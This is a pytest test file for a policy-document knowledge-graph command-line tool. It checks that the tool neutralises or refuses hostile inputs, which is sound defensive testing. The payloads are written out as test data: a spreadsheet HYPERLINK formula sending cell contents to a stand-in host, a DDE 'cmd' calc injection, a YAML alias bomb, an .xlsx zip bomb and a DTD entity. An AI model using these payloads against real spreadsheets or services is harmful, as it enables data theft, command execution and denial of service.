"""Issue 33, user data files, spreadsheets and ``ask``: each attack made through the command line.

- case 2: a YAML alias bomb as corrections → one line, in bounded memory;
- case 4: a plan whose agency and task title are spreadsheet formulas → no formula cell in the
  ``review``, ``report`` and ``compare`` workbooks, a ``'`` before them in every CSV output; a
  corrections CSV value ``=cmd|' /C calc'!A0`` likewise;
- case 7: a symlink to /dev/zero, a FIFO, a directory or an oversized file as ``--corrections``,
  ``--lexicon`` or ``lexicon --check`` → one line, exit code 5, at once and in bounded memory;
- case 8: an .xlsx that inflates to hundreds of MB → refused before openpyxl reads it; a formula cell
  in a corrections workbook → refused, naming the cell;
- case 9 and 13: ``ask`` over the length cap → a refusal (exit 15), ``ask -`` reads standard input,
  a question that is not UTF-8 → one line (exit 5); reading a question is linear in its length.

The fixtures are built here, small, in ``tmp_path``; see docs/reliability.md.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

openpyxl = pytest.importorskip("openpyxl")

HOSTILE_AGENCY = '=HYPERLINK("http://x.example/?"&B3,"点击")&"局"'
HOSTILE_TITLE = "=1+2完善知识产权政策体系"
CALC = "=cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAN = """长寿区知识产权工作方案{n}
三、重点任务
（一）{title}。坚持严格保护的政策导向，提升知识产权公共服务水平。（责任单位：{agency}，配合单位：区司法局、区财政局）
（二）加强知识产权司法保护。充分发挥司法保护的主导作用。（责任单位：区法院，配合单位：@SUM(A1)局、区检察院）
"""


def policykg() -> list[str]:
    exe = Path(sys.executable).with_name("policykg")
    return [str(exe)] if exe.exists() else [sys.executable, "-m", "kg.cli"]


def run(*args: str, cwd: Path | None = None, stdin: bytes | None = None,
        timeout: float = 120) -> subprocess.CompletedProcess:
    """``policykg ARGS`` as a user runs it; stdout and stderr decoded as UTF-8."""
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    p = subprocess.run([*policykg(), *args], cwd=cwd, input=stdin, capture_output=True, timeout=timeout,
                       env=env)
    return subprocess.CompletedProcess(p.args, p.returncode, p.stdout.decode("utf-8", "replace"),
                                       p.stderr.decode("utf-8", "replace"))


def peak_mb(*args: str, timeout: float = 120) -> tuple[subprocess.CompletedProcess, float]:
    """Run ``policykg ARGS`` from a fresh Python that reports the child's peak resident memory (MB)."""
    probe = ("import json, resource, subprocess, sys\n"
             "p = subprocess.run(sys.argv[1:], capture_output=True, text=True, timeout=110)\n"
             "print(json.dumps([p.returncode, p.stdout[-4000:], p.stderr[-4000:],"
             " resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss]))\n")
    w = subprocess.run([sys.executable, "-c", probe, *policykg(), *args], capture_output=True, text=True,
                       timeout=timeout, env=dict(os.environ, PYTHONIOENCODING="utf-8"))
    code, out, err, kb = json.loads(w.stdout)
    return subprocess.CompletedProcess(args, code, out, err), kb / 1024


def assert_one_line(result: subprocess.CompletedProcess, code: int, *words: str) -> None:
    """The documented exit code, one line on standard error without a traceback, naming ``words``."""
    err = result.stderr.strip()
    assert result.returncode == code, (result.returncode, err[-800:])
    assert "Traceback" not in err and len(err.splitlines()) == 1, err[-800:]
    for w in words:
        assert w in err, (w, err)


# ---------------------------------------------------------------- case 4: formulas from document text
@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """Two hostile plans (an agency and a task title written as formulas), built into out/."""
    d = tmp_path_factory.mktemp("hostile")
    for n in ("a", "b"):
        (d / f"plan-{n}.txt").write_text(PLAN.format(n=n, title=HOSTILE_TITLE, agency=HOSTILE_AGENCY),
                                         encoding="utf-8")
    r = run("build", "plan-a.txt", "plan-b.txt", "-o", "out", "--no-validate", cwd=d)
    assert r.returncode == 0, r.stderr
    return d


def formula_cells(path: Path) -> tuple[list[str], list[str]]:
    """(cells with data_type 'f', the text cells that begin like a formula) of every sheet."""
    wb = openpyxl.load_workbook(path)
    formulas, texts = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append(f"{ws.title}!{c.coordinate}={c.value}")
                elif isinstance(c.value, str) and c.value.startswith(("=", "@")):
                    texts.append(c.value)
                    if not c.quotePrefix:  # Excel would make it a formula when the cell is edited
                        formulas.append(f"{ws.title}!{c.coordinate} without a quote prefix")
    return formulas, texts


@pytest.mark.parametrize("command", ["review", "report", "compare"])
def test_hostile_plan_gives_no_formula_cell_in_workbooks(hostile, command, tmp_path):
    out = tmp_path / f"{command}.xlsx"
    args = {"review": ["review", "plan-a.txt", "plan-b.txt", "-o", str(out)],
            "report": ["report", "--data", "out", "-o", str(out)],
            "compare": ["compare", "plan-a", "plan-b", "--data", "out", "-o", str(out)]}[command]
    r = run(*args, cwd=hostile)
    assert r.returncode == 0, r.stderr
    formulas, texts = formula_cells(out)
    assert formulas == []
    # the hostile text is there, as text
    assert any(HOSTILE_AGENCY in t for t in texts), texts[:5]
    if command != "report":
        assert any(t.startswith(HOSTILE_TITLE) for t in texts), texts[:5]


def csv_fields(text: str, delimiter: str = ",") -> list[str]:
    return [f for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for f in row]


def assert_no_formula_field(fields: list[str], expected: str) -> None:
    bad = [f for f in fields if f.startswith(TRIGGERS) and not f.lstrip("+-").replace(".", "", 1).isdigit()]
    assert bad == []
    assert "'" + expected in fields or any(f.startswith("'" + expected) for f in fields), fields[:40]


def test_hostile_plan_gives_no_formula_in_any_csv(hostile, tmp_path):
    # review --format csv
    r = run("review", "plan-a.txt", "plan-b.txt", "-o", str(tmp_path / "review.csv"), cwd=hostile)
    assert r.returncode == 0, r.stderr
    tasks = (tmp_path / "review.tasks.csv").read_text(encoding="utf-8-sig")
    assert_no_formula_field(csv_fields(tasks), HOSTILE_AGENCY)
    assert_no_formula_field(csv_fields(tasks), HOSTILE_TITLE)
    # query --format csv / tsv
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        r = run("query", "responsibility-table", "--data", "out", "--format", fmt, cwd=hostile)
        assert r.returncode == 0, r.stderr
        assert_no_formula_field(csv_fields(r.stdout, sep), HOSTILE_AGENCY)
    # graph (nodes and edges CSV), metrics --format csv, ask --format csv
    r = run("graph", "--data", "out", "-o", str(tmp_path / "net.csv"), cwd=hostile)
    assert r.returncode == 0, r.stderr
    assert_no_formula_field(csv_fields((tmp_path / "net.nodes.csv").read_text(encoding="utf-8")),
                            "@SUM(A1)局")
    r = run("metrics", "--data", "out", "--format", "csv", cwd=hostile)
    assert r.returncode == 0, r.stderr
    assert_no_formula_field(csv_fields(r.stdout), "@SUM(A1)局")
    r = run("ask", "区司法局配合哪些任务？", "--data", "out", "--format", "csv", cwd=hostile)
    assert r.returncode == 0, r.stderr
    assert_no_formula_field(csv_fields(r.stdout), HOSTILE_TITLE)


def test_review_csv_read_back_as_corrections_changes_nothing(hostile, tmp_path):
    """The ' written before formula-like text is taken off when the sheet comes back."""
    r = run("review", "plan-a.txt", "-o", str(tmp_path / "review.csv"), cwd=hostile)
    assert r.returncode == 0, r.stderr
    r = run("build", "plan-a.txt", "-o", str(tmp_path / "out"), "--no-validate", "--corrections",
            str(tmp_path / "review.tasks.csv"), cwd=hostile)
    assert r.returncode == 0, r.stderr
    report = json.loads((tmp_path / "out" / "corrections.json").read_text(encoding="utf-8"))
    assert [f["changes"] for f in report["files"]] == [0]  # the hostile cells read back as extracted


def test_corrections_value_that_is_a_formula_stays_text(hostile, tmp_path):
    sha = json.loads(run("extract", "plan-a.txt", cwd=hostile).stdout)["document"]["sha256"]
    fixes = tmp_path / "fixes.csv"
    with open(fixes, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["document", "sha256", "change", "key", "value", "note"],
                                  ["plan-a", sha, "cooperating", "1.1", CALC, ""]])
    r = run("build", "plan-a.txt", "-o", str(tmp_path / "out"), "--no-validate", "--corrections", str(fixes),
            cwd=hostile)
    assert r.returncode == 0, r.stderr
    r = run("report", "--data", str(tmp_path / "out"), "-o", str(tmp_path / "report.xlsx"), cwd=hostile)
    assert r.returncode == 0, r.stderr
    formulas, texts = formula_cells(tmp_path / "report.xlsx")
    assert formulas == []
    assert any(t.startswith("=cmd|") for t in texts), texts  # split at / into unit names, kept as text


# ---------------------------------------------------------------- case 2: YAML alias bomb
def test_yaml_alias_bomb_as_corrections_is_refused_fast(tmp_path):
    levels = ["a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]"]
    for k, name in enumerate("bcdefghi"):
        prev = "abcdefghi"[k]
        levels.append(f"{name}: &{name} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]")
    bomb = tmp_path / "laughs.yaml"
    bomb.write_text("\n".join(levels) + "\nreviewer: *i\ncorrections: []\n", encoding="utf-8")
    assert bomb.stat().st_size < 600
    r, peak = peak_mb("build", "--sample", "-o", str(tmp_path / "out"), "--corrections", str(bomb))
    assert_one_line(r, 5, "laughs.yaml", "alias")
    assert peak < 300, f"peak memory {peak:.0f} MB"
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- case 7: special files
def special(tmp_path: Path, kind: str, suffix: str) -> Path:
    p = tmp_path / f"{kind}{suffix}"
    if kind == "zero":
        p.symlink_to("/dev/zero")
    elif kind == "fifo":
        os.mkfifo(p)
    elif kind == "directory":
        p.mkdir()
    else:  # 25 MB, sparse: over the 20 MB cap
        with open(p, "wb") as fh:
            fh.truncate(25 << 20)
    return p


WHAT = {"zero": "is a device", "fifo": "is a FIFO", "directory": "is a directory", "huge": "over the 20 MB"}


@pytest.mark.parametrize("kind", list(WHAT))
@pytest.mark.parametrize("use", ["build --corrections", "review --corrections", "build --lexicon",
                                 "lexicon --check"])
def test_special_file_as_user_data_is_refused(tmp_path, kind, use):
    suffix = ".ttl" if use == "lexicon --check" and kind == "zero" else ".csv"
    path = special(tmp_path, kind, suffix)
    from kg.resources import sample_path

    args = {"build --corrections": ["build", "--sample", "-o", str(tmp_path / "out"), "--corrections"],
            "review --corrections": ["review", str(sample_path()), "-o", str(tmp_path / "r.xlsx"),
                                     "--corrections"],
            "build --lexicon": ["build", "--sample", "-o", str(tmp_path / "out"), "--lexicon"],
            "lexicon --check": ["lexicon", "--check"]}[use]
    r, peak = peak_mb(*args, str(path))
    assert_one_line(r, 5, path.name, WHAT[kind])
    assert peak < 300, f"peak memory {peak:.0f} MB"
    assert not (tmp_path / "out").exists() and not (tmp_path / "r.xlsx").exists()


# ---------------------------------------------------------------- case 8: workbooks given back
def xlsx_bomb(path: Path, megabytes: int) -> Path:
    """A workbook-shaped ZIP whose sheet inflates to ``megabytes`` MB of spaces (written in pieces)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types xmlns='http://schemas.openxmlformats.org/package/2006/"
                                          "content-types'/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(b"<worksheet><sheetData>")
            block = b" " * (1 << 20)
            for _ in range(megabytes):
                fh.write(block)
            fh.write(b"</sheetData></worksheet>")
    return path


@pytest.mark.parametrize("megabytes, why", [(300, "over the 200 MB"), (50, "times its size")])
def test_xlsx_bomb_as_corrections_is_refused_before_openpyxl(tmp_path, megabytes, why):
    bomb = xlsx_bomb(tmp_path / "review.xlsx", megabytes)
    assert bomb.stat().st_size < 2_000_000
    r, peak = peak_mb("build", "--sample", "-o", str(tmp_path / "out"), "--corrections", str(bomb))
    assert_one_line(r, 5, "review.xlsx", why)
    assert peak < 300, f"peak memory {peak:.0f} MB"


def test_xlsx_with_a_dtd_is_refused(tmp_path):
    p = tmp_path / "review.xlsx"
    with zipfile.ZipFile(p, "w") as z:
        z.writestr("xl/workbook.xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><workbook/>')
    r = run("build", "--sample", "-o", str(tmp_path / "out"), "--corrections", str(p))
    assert_one_line(r, 5, "review.xlsx", "DTD")


def test_formula_cell_in_corrections_workbook_is_refused_naming_the_cell(tmp_path):
    from kg.resources import sample_path

    review = tmp_path / "review.xlsx"
    r = run("review", str(sample_path()), "-o", str(review))
    assert r.returncode == 0, r.stderr
    wb = openpyxl.load_workbook(review)
    ws = wb["任务 tasks"]
    header = [c.value for c in ws[1]]
    col = header.index("配合单位 cooperating") + 1
    assert ws.cell(2, col).value  # the task has cooperating units that a formula would silently remove
    ws.cell(2, col).value = '=IF(1,"","")'  # no cached value: read as empty before
    wb.save(review)
    letter = openpyxl.utils.get_column_letter(col)
    r = run("build", str(sample_path()), "-o", str(tmp_path / "out"), "--corrections", str(review))
    assert_one_line(r, 5, f"任务 tasks!{letter}2", "formula")
    assert not (tmp_path / "out").exists()
    # the same workbook without the formula is read as before
    ws.cell(2, col).value = "区司法局"
    wb.save(review)
    r = run("build", str(sample_path()), "-o", str(tmp_path / "out"), "--no-validate", "--corrections",
            str(review))
    assert r.returncode == 0, r.stderr


# ---------------------------------------------------------------- case 9 and 13: ask
@pytest.fixture(scope="module")
def kg_dir(tmp_path_factory) -> Path:
    from kg.resources import sample_path

    d = tmp_path_factory.mktemp("ask")
    assert run("build", str(sample_path()), "-o", str(d), "--no-validate").returncode == 0
    return d


def test_ask_over_the_length_cap_is_refused_in_one_line(kg_dir):
    question = "区法院牵头哪些任务" * 230  # 2,070 characters: minutes before
    r = run("ask", question, "--data", str(kg_dir))
    assert_one_line(r, 15, "too-long", "2070")
    assert "too-long" in r.stdout
    r = run("ask", "-", "--data", str(kg_dir), "--format", "json", stdin=("区" * 1000).encode())
    assert_one_line(r, 15, "too-long")
    assert json.loads(r.stdout)["refused"] == "too-long"


def test_ask_reads_the_question_from_standard_input(kg_dir):
    by_argument = run("ask", "区法院牵头哪些任务？", "--data", str(kg_dir), "--format", "json")
    by_stdin = run("ask", "-", "--data", str(kg_dir), "--format", "json",
                   stdin="区法院牵头哪些任务？\n".encode())
    assert by_argument.returncode == by_stdin.returncode == 0, by_stdin.stderr
    a, b = json.loads(by_argument.stdout), json.loads(by_stdin.stdout)
    assert a["answer"] == b["answer"] == ["（三）"]


def test_ask_with_invalid_utf8_is_one_line(kg_dir):
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    p = subprocess.run([*[os.fsencode(a) for a in policykg()], b"ask", b"\xff\xfe\xe5\x8c", b"--data",
                        os.fsencode(kg_dir)], capture_output=True, timeout=120, env=env)
    r = subprocess.CompletedProcess(p.args, p.returncode, "", p.stderr.decode("utf-8", "replace"))
    assert_one_line(r, 5, "not UTF-8")
    r = run("ask", "-", "--data", str(kg_dir), stdin=b"\xff\xfe\xe5\x8c")
    assert_one_line(r, 5, "<stdin>", "not UTF-8")


def test_reading_a_question_is_linear_in_its_length(monkeypatch):
    """Counted, not timed: the words examined to read a question grow with its length, not its cube."""
    from kg.ask import entities
    from kg.ask.answer import Asker
    from kg.graph.build import build_graph
    from kg.resources import sample_path
    from kg.sparql.store import open_kg
    from loaders.extract.document import load_document

    asker = Asker(graph=open_kg(build_graph([load_document(sample_path())])))
    calls = {"n": 0}
    role_of = entities._role_of

    def counted(word: str) -> str:
        calls["n"] += 1
        return role_of(word)

    monkeypatch.setattr(entities, "_role_of", counted)
    counts = []
    for n in (100, 300):
        calls["n"] = 0
        entities.read_question(("甲乙丙丁戊己庚辛壬癸" * 30)[:n], asker.vocabulary, asker.tokenizer)
        counts.append(calls["n"])
    assert counts[0] > 0
    assert counts[1] < 4 * counts[0], counts  # linear: 3×; the old reading grew 27×


@pytest.mark.parametrize("use", ["build --corrections", "lexicon --check"])
def test_csv_with_a_field_over_the_csv_limit_is_one_line(tmp_path, use):
    p = tmp_path / "big.csv"
    head = "document,sha256,change,key,value,note\n" if use != "lexicon --check" else "type,label,concept,kind\n"
    p.write_text(head + 'a,"' + "x" * 200_000 + '",b,c\n', encoding="utf-8")
    args = ["build", "--sample", "-o", str(tmp_path / "out"), "--corrections"] if use != "lexicon --check" \
        else ["lexicon", "--check"]
    assert_one_line(run(*args, str(p)), 5, "big.csv", "not a readable CSV file")


def test_workbook_with_a_sheet_broken_half_way_is_one_line(tmp_path):
    from kg.review.workbook import TASK_COLUMNS

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "任务 tasks"
    ws.append([c.header for c in TASK_COLUMNS])
    ws.append(["a"] * len(TASK_COLUMNS))
    wb.save(tmp_path / "ok.xlsx")
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(tmp_path / "ok.xlsx") as zin, zipfile.ZipFile(broken, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            zout.writestr(info, data[: len(data) // 2] if info.filename == "xl/worksheets/sheet1.xml" else data)
    r = run("build", "--sample", "-o", str(tmp_path / "out"), "--corrections", str(broken))
    assert_one_line(r, 5, "broken.xlsx", "not a readable .xlsx workbook")
